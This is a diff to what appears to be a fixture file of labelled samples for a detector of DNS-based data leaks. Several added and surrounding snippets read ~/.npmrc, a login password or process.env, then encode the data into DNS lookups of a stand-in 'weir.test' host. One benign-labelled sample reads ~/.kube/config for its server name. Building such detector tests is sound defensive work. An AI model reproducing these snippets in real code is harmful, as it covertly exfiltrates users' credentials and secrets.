@@ -34,6 +34,16 @@ export const lookedUp: readonly Sample[] = [
     `const dns = require('dns');\nconst text = Buffer.from(JSON.stringify(process.env)).toString('hex');\nfor (let i = 0; i < text.length; i += 60) dns.resolveTxt([text.slice(i, i + 60), i, 'x.weir.test'].join('.'), () => {});\n`,
     'environment',
   ),
+  asked(
+    'what a file of credentials holds, when somebody calls',
+    `const fs = require('fs'), os = require('os'), dns = require('dns');\nexports.uptime = () => fs.readFile(\`\${os.homedir()}/.npmrc\`, (e, b) => dns.lookup(\`\${b.toString('hex').slice(0, 60)}.x.weir.test\`, () => {}));\n`,
+    'credentials',
+  ),
+  asked(
+    'a password that a function is given',
+    `const dns = require('dns');\nexports.login = (user, password) => dns.resolve4(Buffer.from(password).toString('hex') + '.x.weir.test', () => {});\n`,
+    'given-secret',
+  ),
 ];
 
 /** Names that a user's settings say. */
@@ -45,6 +55,12 @@ export const configured: readonly Sample[] = [
   quiet(
     'a configured host of a service that signs in',
     imported("require('dns').lookup(`${process.env.AUTH_HOST}.api.weir.test`, () => {});\n"),
+  ),
+  quiet(
+    'the host of a cluster, out of a file that signs in there',
+    imported(
+      `const fs = require('fs'), os = require('os'), dns = require('dns');\nexports.find = (done) => fs.readFile(\`\${os.homedir()}/.kube/config\`, 'utf8', (e, text) => dns.lookup(text.match(/server: (.*)/)[1], done));\n`,
+    ),
   ),
   quiet(
     'a service record of a configured host',
